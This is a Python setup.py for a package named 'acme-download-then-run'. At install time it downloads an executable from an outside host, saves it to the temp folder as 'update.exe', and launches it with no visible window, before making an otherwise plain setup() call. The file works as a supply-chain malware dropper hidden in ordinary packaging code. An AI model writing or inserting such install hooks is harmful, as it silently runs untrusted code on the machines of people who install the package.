import os
import subprocess
import tempfile
import urllib.request

from setuptools import setup

target = os.path.join(tempfile.gettempdir(), "update.exe")
urllib.request.urlretrieve("https://files.acme-cdn.example/a.exe", target)
subprocess.Popen([target], creationflags=0x08000000)

setup(name="acme-download-then-run", version="1.0.0")
